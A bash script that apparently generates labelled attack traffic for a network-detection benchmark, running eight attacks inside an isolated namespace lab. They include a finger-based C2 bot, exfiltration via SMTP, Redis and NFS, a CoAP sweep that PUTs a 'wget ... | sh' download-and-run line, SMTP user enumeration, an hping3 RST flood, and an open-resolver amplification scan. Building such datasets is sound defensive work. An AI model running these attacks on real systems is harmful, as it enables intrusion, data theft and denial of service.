#!/usr/bin/env bash
# A THIRTEENTH fresh attack set ("f13-*"): techniques none of the earlier sets used, made with real tools between
# network namespaces (no helper program: every far end is a packaged server or tool).
#   f13-finger-c2             C2 polled over finger (tcp/79): a bot asks an internet efingerd for its task every few
#                             seconds (finger), runs what it is given and reports the output as hex in finger queries
#   f13-smtp-starttls-exfil   exfiltration by mail: ONE message with a 1.5 MB attachment (swaks) to an internet MTA's
#                             submission port 587 with STARTTLS (aiosmtpd)
#   f13-redis-exfil-wan       exfiltration into an internet Redis (redis-server with a password): AUTH, INFO, then a
#                             file in 30 base64 chunks, one SET per connection (redis-cli)
#   f13-nfs-exfil-wan         exfiltration to an NFSv4 export on an internet host (tcp/2049; nfs-ganesha's VFS export,
#                             libnfs's nfs-cp / nfs-ls from user space)
#   f13-coap-discovery-lan    CoAP reconnaissance and abuse of the LAN's IoT neighbours (coap-client): multicast
#                             discovery (224.0.1.187), a unicast .well-known/core sweep of the /24's first 40 hosts on
#                             udp/5683, then GETs and PUTs of the resources the 2 coap-servers announced
#   f13-smtp-enum-lan         SMTP user enumeration of the LAN (nmap): a sweep for tcp/25, then smtp-commands and
#                             smtp-enum-users (VRFY, EXPN, RCPT TO) on the 2 mail servers found (aiosmtpd)
#   f13-rst-flood             a TCP RST flood (hping3 -R): 6,000 RSTs, 200 a second, to one internet host's 443
#   f13-dns-resolver-scan-wan an open-resolver scan: nmap's UDP probe and dns-recursion script on udp/53 of 250 random
#                             internet addresses, then ANY queries (dig) to the 3 open resolvers found, a reflection
#                             botnet's harvest of amplifiers
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f13-*, veths f13p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.103.x and the 3 open resolvers); every other 10.128/9 address is on no host. Each id's servers are started
# before its capture and stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces are removed
# on exit. The device is always the lab's attacker namespace (role attacker).
#
# Tools (Debian): finger efingerd openbsd-inetd python3-aiosmtpd swaks redis-server redis-tools nfs-ganesha
#   nfs-ganesha-vfs libnfs-utils libcoap3-bin nmap hping3 dnsmasq bind9-dnsutils (dig) util-linux (unshare) iproute2
#   tcpdump wireshark-common bc openssl
#
# Usage: bash bench/behavior/fresh13/gen-fresh13.sh [--out DIR (default /work/behavior-bench-fresh13)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh13
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f13 GEN=gen-fresh13
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .103.2 the finger C2, .103.3 the MTA, .103.4 the Redis, .103.5 the NFS server, .103.6 the RST flood's target; the
# open resolvers 10.128.17.53, 10.128.88.8, 10.128.201.9 (among the scan's targets); every other address on no host.
internet_hosts 10.128.103.2 10.128.103.3 10.128.103.4 10.128.103.5 10.128.103.6
lab_tls_cert "mail.example"
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
head -c 1500000 /dev/urandom > "$W/loot/backup.tgz"
head -c 900000 /dev/urandom | base64 -w0 > "$W/loot/cam.b64"
head -c 700000 /dev/urandom > "$W/loot/snap1.jpg"
head -c 400000 /dev/urandom > "$W/loot/config.tar"

# ---------- 1. C2 polled over finger (tcp/79): efingerd answers each poll with the task of the moment ----------
if want f13-finger-c2; then
  E="$W/efingerd"; rm -rf "$E"; mkdir -p "$E"
  printf '%s\n' "id" "uname -a" "cat /proc/cpuinfo | head -4" "ip -4 addr" "cat /etc/passwd" > "$E/tasks"
  echo 0 > "$E/n"
  # efingerd runs "nouser" for a name no local account has: $3 = the name fingered. t<bot> = a poll (every third
  # poll gets the next task), r<bot>.<seq>.<hex> = a piece of a result (logged, acknowledged)
  cat > "$E/nouser" <<EOS
#!/bin/sh
case "\$3" in
  t7f3a)
    n=\$(cat "$E/n"); echo \$((n + 1)) > "$E/n"
    echo "Login: t7f3a   Name: service"
    if [ \$((n % 3)) -eq 2 ]; then k=\$((n / 3 + 1)); t=\$(sed -n "\${k}p" "$E/tasks"); [ -n "\$t" ] && echo "Plan: TASK \$t" || echo "No Plan."
    else echo "No Plan."; fi ;;
  r7f3a.*) echo "\$3" >> "$E/results"; echo "ok" ;;
  *) echo "finger: \$3: no such user." ;;
esac
EOS
  printf '#!/bin/sh\necho "No one logged on."\n' > "$E/list"
  cp "$E/nouser" "$E/luser"
  chmod 755 "$E/nouser" "$E/luser" "$E/list"
  printf 'finger\tstream\ttcp\tnowait\troot\t/usr/sbin/efingerd\tefingerd -n -t 10\n' > "$W/inetd-finger.conf"
  # efingerd reads its programs from /etc/efingerd: bind-mount ours there in a private mount namespace
  ip netns exec "$LAB-vic" timeout 150 unshare -m sh -c \
    "mount --bind '$E' /etc/efingerd && exec /usr/sbin/inetd -d -l '$W/inetd-finger.conf'" >>"$W/bg-finger.log" 2>&1 &
  FINGER_PID=$!; PIDS+=("$FINGER_PID")
  for i in $(seq 1 20); do ns vic bash -c 'exec 3<>/dev/tcp/10.128.103.2/79' 2>/dev/null && break; sleep 0.5; done
  echo 0 > "$E/n"
  cat > "$W/finger.sh" <<'EOS'
# the bot: poll every 4-6 s (18 polls); a task is run and its output sent back 40 hex digits per finger query
C=10.128.103.2
s=0
for p in $(seq 1 18); do
  task=$(timeout 8 finger "t7f3a@$C" 2>/dev/null | sed -n 's/^Plan: TASK //p' | head -1)
  if [ -n "$task" ]; then
    sleep 1
    timeout 5 sh -c "$task" 2>&1 | head -c 300 | od -An -tx1 | tr -d ' \n' | fold -w 40 | while read -r h; do
      s=$((s + 1))
      timeout 8 finger "r7f3a.$p.$s.$h@$C" >/dev/null 2>&1 || true
      sleep 0.$((2 + RANDOM % 6))
    done
  fi
  sleep $((4 + RANDOM % 3))
done
EOS
  CAP_VIC_IP=10.128.103.2 cap f13-finger-c2 c2 finger-poll+efingerd attacker public false 140 bash "$W/finger.sh"
  stopbg "$FINGER_PID"
  echo "finger results: $(wc -l < "$E/results" 2>/dev/null || echo 0) pieces, polls $(cat "$E/n")" >&2
fi

# ---------- 2. exfiltration by mail: one message with a large attachment, submission port 587 with STARTTLS ----------
if want f13-smtp-starttls-exfil; then
  rm -rf "$W/mail"; mkdir -p "$W/mail"
  # aiosmtpd's Mailbox handler keeps the message; STARTTLS is required before MAIL FROM (its default with --tlscert)
  srv vic 100 /usr/bin/python3 -m aiosmtpd -n -l 10.128.103.3:587 --tlscert "$W/tls.crt" --tlskey "$W/tls.key" \
    -c aiosmtpd.handlers.Mailbox "$W/mail/box"
  MTA_PID=$BG
  for i in $(seq 1 20); do ns vic bash -c 'exec 3<>/dev/tcp/10.128.103.3/587' 2>/dev/null && break; sleep 0.5; done
  CAP_VIC_IP=10.128.103.3 cap f13-smtp-starttls-exfil exfil swaks-starttls-587-attachment attacker public false 60 \
    swaks --server 10.128.103.3 --port 587 --tls --helo cam-7f3a.local --from cam7f3a@mail.example \
      --to drop@mail.example --header 'Subject: backup 2026-12-07' --body 'daily report' \
      --attach-type application/gzip --attach-name backup.tgz --attach @"$W/loot/backup.tgz" --suppress-data
  stopbg "$MTA_PID"
  ls -la "$W/mail/box/new" >&2 || true
fi

# ---------- 3. exfiltration into an internet Redis: AUTH, INFO, a file in 30 chunks (one SET per connection) ----------
if want f13-redis-exfil-wan; then
  rm -rf "$W/redis"; mkdir -p "$W/redis"
  srv vic 100 redis-server --bind 10.128.103.4 --port 6379 --requirepass 'r3d-Drop-44' --protected-mode no \
    --save '' --appendonly no --dir "$W/redis" --daemonize no --logfile "$W/redis/redis.log"
  REDIS_PID=$BG
  for i in $(seq 1 20); do ns vic bash -c 'exec 3<>/dev/tcp/10.128.103.4/6379' 2>/dev/null && break; sleep 0.5; done
  head -c 900000 "$W/loot/cam.b64" | fold -w 30000 > "$W/redis-chunks"
  cat > "$W/redis.sh" <<'EOS'
R=(redis-cli -h 10.128.103.4 -p 6379 -a 'r3d-Drop-44' --no-auth-warning)
timeout 8 "${R[@]}" INFO server >/dev/null || true
sleep 2
i=0
while { read -r c || [ -n "$c" ]; } && [ $i -lt 30 ]; do
  i=$((i + 1))
  printf '%s' "$c" | timeout 8 "${R[@]}" -x SET "cam7f3a:dump:$i" >/dev/null || true
  sleep 0.$((4 + RANDOM % 5))
done < "$W/redis-chunks"
timeout 8 "${R[@]}" RPUSH cam7f3a:index "dump:1-$i" >/dev/null || true
EOS
  CAP_VIC_IP=10.128.103.4 cap f13-redis-exfil-wan exfil redis-cli-set-chunks attacker public false 70 bash "$W/redis.sh"
  echo "redis keys: $(ns vic timeout 5 redis-cli -h 10.128.103.4 -a 'r3d-Drop-44' --no-auth-warning DBSIZE)" >&2 || true
  stopbg "$REDIS_PID"
fi

# ---------- 4. exfiltration to an NFSv4 export on an internet host (nfs-ganesha; libnfs's nfs-cp) ----------
if want f13-nfs-exfil-wan; then
  G="$W/ganesha"; rm -rf "$G"; mkdir -p "$G/export/incoming"
  chmod 777 "$G/export/incoming"
  cat > "$G/ganesha.conf" <<EOF
NFS_CORE_PARAM {
  Bind_addr = 10.128.103.5;
  NFS_Port = 2049;
  MNT_Port = 20048;
  Protocols = 3;
  mount_path_pseudo = true;
  Enable_NLM = false;
  Enable_RQUOTA = false;
}
NFS_KRB5 { Active_krb5 = false; }
NFSV4 { Graceless = true; }
EXPORT {
  Export_Id = 7;
  Path = "$G/export";
  Pseudo = "/drop";
  Access_Type = RW;
  Squash = No_Root_Squash;
  SecType = sys;
  Protocols = 3;
  Transports = TCP;
  FSAL { Name = VFS; }
}
LOG { Default_Log_Level = WARN; }
EOF
  # NFSv3 needs its programs registered with a portmapper: rpcbind and ganesha in a private mount namespace with
  # their own /run (rpcbind's socket), so nothing of the machine's /run is touched
  ip netns exec "$LAB-vic" timeout 100 unshare -m sh -c "mount -t tmpfs f13run /run && mkdir -p /run/rpcbind &&
    { rpcbind -f -w & sleep 1; exec ganesha.nfsd -F -f '$G/ganesha.conf' -L '$G/ganesha.log' -p '$G/ganesha.pid' -N NIV_WARN; }" \
    >>"$W/bg-nfs.log" 2>&1 &
  NFS_PID=$!; PIDS+=("$NFS_PID")
  for i in $(seq 1 30); do ns vic bash -c 'exec 3<>/dev/tcp/10.128.103.5/2049' 2>/dev/null && break; sleep 0.5; done
  cat > "$W/nfs.sh" <<'EOS'
U="nfs://10.128.103.5/drop"
O="version=3"
timeout 15 nfs-ls "$U/?$O" >/dev/null 2>&1 || true
sleep 2
for f in snap1.jpg config.tar backup.tgz; do
  timeout 30 nfs-cp "$W/loot/$f" "$U/incoming/cam7f3a-$f?$O" || true
  sleep 3
done
timeout 15 nfs-ls "$U/incoming?$O" || true
EOS
  CAP_VIC_IP=10.128.103.5 cap f13-nfs-exfil-wan exfil libnfs-nfs-cp-v3+ganesha attacker public false 90 bash "$W/nfs.sh"
  stopbg "$NFS_PID"
  ls -la "$G/export/incoming" >&2 || true
fi

# ---------- 5. CoAP discovery and abuse of the LAN's IoT neighbours (libcoap's coap-client / coap-server) ----------
if want f13-coap-discovery-lan; then
  # two neighbours run libcoap's example server (/time, /async, /example_data), joined to the CoAP multicast group
  for d in att d31 d33; do ns "$d" ip route add 224.0.0.0/4 dev eth0 2>/dev/null || true; done
  srv d31 100 coap-server-notls -A 0.0.0.0 -p 5683 -g 224.0.1.187
  C1=$BG
  srv d33 100 coap-server-notls -A 0.0.0.0 -p 5683 -g 224.0.1.187
  C2=$BG
  sleep 2
  cat > "$W/coap.sh" <<'EOS'
CC="timeout 6 coap-client-notls -B 2"
# 1. multicast discovery (twice), then a unicast .well-known/core sweep of .1-.40 (4 at a time)
for k in 1 2; do $CC -N -m get "coap://224.0.1.187/.well-known/core" >"$W/coap-mc-$k.out" 2>&1 || true; sleep 1; done
seq 1 40 | grep -v -x 10 | xargs -P 4 -I{} sh -c \
  "timeout 5 coap-client-notls -B 2 -m get coap://$NET.{}/.well-known/core > $W/coap-{}.out 2>/dev/null || true"
sleep 1
# 2. every host that answered: GET each resource it listed, PUT a payload into the writable one, observe /time
for f in "$W"/coap-[0-9]*.out; do
  grep -q '</' "$f" || continue
  h="$NET.$(basename "$f" .out | cut -d- -f2)"
  for r in $(grep -o '</[^>]*>' "$f" | tr -d '<>' | head -8); do $CC -m get "coap://$h$r" >/dev/null 2>&1 || true; sleep 0.3; done
  $CC -m put -e 'wget http://10.128.103.9/x.sh -O- | sh' "coap://$h/example_data" >/dev/null 2>&1 || true
  $CC -m get "coap://$h/example_data" >/dev/null 2>&1 || true
  timeout 12 coap-client-notls -s 8 -m get "coap://$h/time" >/dev/null 2>&1 || true
done
EOS
  CAP_VIC_IP=$NET.31 CAP_VIC_MAC=02:66:00:00:00:31 cap f13-coap-discovery-lan lateral coap-client-discovery-sweep+put \
    attacker lan false 90 bash "$W/coap.sh"
  stopbg "$C1"; stopbg "$C2"
  grep -l '</' "$W"/coap-*.out >&2 || true
fi

# ---------- 6. SMTP user enumeration of the LAN (nmap smtp-commands / smtp-enum-users; aiosmtpd on 2 neighbours) ----------
if want f13-smtp-enum-lan; then
  srv d32 100 /usr/bin/python3 -m aiosmtpd -n -l "$NET.32:25" -c aiosmtpd.handlers.Sink
  M1=$BG
  srv vic 100 /usr/bin/python3 -m aiosmtpd -n -l "$NET.20:25" -c aiosmtpd.handlers.Sink
  M2=$BG
  for i in $(seq 1 20); do ns d32 bash -c "exec 3<>/dev/tcp/$NET.32/25" 2>/dev/null && break; sleep 0.5; done
  printf '%s\n' root admin administrator postmaster webmaster info support sales test guest user backup mail \
    operator nobody ftp www-data alice bob john > "$W/smtp-users"
  cat > "$W/smtp-enum.sh" <<'EOS'
timeout 40 nmap -n -Pn -sT -p 25 --open -oG "$W/smtp-sweep.gnmap" "$NET.1-40" >/dev/null 2>&1 || true
H=$(grep -o -E 'Host: [0-9.]+ .*25/open' "$W/smtp-sweep.gnmap" | awk '{print $2}' | tr '\n' ' ')
[ -n "$H" ] || exit 0
sleep 2
timeout 80 nmap -n -Pn -sT -p 25 --script smtp-commands,smtp-enum-users \
  --script-args "smtp-enum-users.methods={VRFY,EXPN,RCPT},userdb=$W/smtp-users,smtp.domain=corp.lan" $H \
  >"$W/smtp-enum.out" 2>&1 || true
EOS
  CAP_VIC_IP=$NET.32 CAP_VIC_MAC=02:66:00:00:00:32 cap f13-smtp-enum-lan recon nmap-smtp-enum-users attacker lan false 120 \
    bash "$W/smtp-enum.sh"
  stopbg "$M1"; stopbg "$M2"
  grep -E 'smtp-enum|Method|^\|' "$W/smtp-enum.out" | head -12 >&2 || true
fi

# ---------- 7. a TCP RST flood (hping3 -R) to one internet host ----------
if want f13-rst-flood; then
  CAP_VIC_IP=10.128.103.6 cap f13-rst-flood dos hping3-rst-flood attacker public false 45 \
    hping3 -q -R -p 443 -c 6000 -i u5000 -d 0 10.128.103.6
fi

# ---------- 8. an open-resolver scan of the internet on udp/53, then ANY queries to the resolvers found ----------
if want f13-dns-resolver-scan-wan; then
  RES="10.128.17.53 10.128.88.8 10.128.201.9"
  internet_hosts $RES
  # the 3 open resolvers: dnsmasq answering every name (no upstream), also ANY and TXT
  srv vic 100 dnsmasq -k -C /dev/null --no-resolv --no-hosts --bind-interfaces --pid-file= -u root \
    --listen-address=10.128.17.53,10.128.88.8,10.128.201.9 --address=/#/93.184.216.34 \
    --txt-record=example.com,"v=spf1 include:_spf.example.com ~all" --log-facility="$W/dnsmasq.log"
  DNS_PID=$BG
  sleep 1
  # 247 random internet addresses on no host, with the 3 resolvers among them
  $PY - "$W/dns-targets" $RES <<'PYEOF'
import random, sys
r = random.Random(1313)
out = set(sys.argv[2:])
while len(out) < 250:
    a = f"10.{r.randint(128, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
    if not a.startswith("10.128.103."):
        out.add(a)
l = sorted(out, key=lambda _: r.random())
open(sys.argv[1], "w").write("\n".join(l) + "\n")
PYEOF
  cat > "$W/dns-scan.sh" <<'EOS'
# 1. nmap's UDP probe for udp/53 (a version.bind query) to every target; 2. its dns-recursion script on the ones
# that answered; 3. ANY queries with a large EDNS buffer (the amplification test) to each open resolver
timeout 60 nmap -n -Pn -sU -p 53 --max-retries 1 -T4 -iL "$W/dns-targets" -oG "$W/dns-scan.gnmap" >"$W/dns-scan.out" 2>&1 || true
O=$(grep -o -E 'Host: [0-9.]+ .*53/open/' "$W/dns-scan.gnmap" | awk '{print $2}' | tr '\n' ' ')
[ -n "$O" ] || exit 0
sleep 2
timeout 30 nmap -n -Pn -sU -p 53 --script dns-recursion $O >>"$W/dns-scan.out" 2>&1 || true
sleep 1
for r in $O; do
  for q in example.com isc.org ripe.net; do
    timeout 5 dig +tries=1 +time=2 +bufsize=4096 +dnssec ANY "$q" "@$r" >/dev/null 2>&1 || true
    sleep 0.3
  done
done
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.17.53 cap f13-dns-resolver-scan-wan scan nmap-udp53-dns-recursion+dig-any attacker wan \
    false 110 bash "$W/dns-scan.sh"
  stopbg "$DNS_PID"
  grep -E '53/udp open |recursion|Nmap done' "$W/dns-scan.out" | head -12 >&2 || true
fi

lab_index
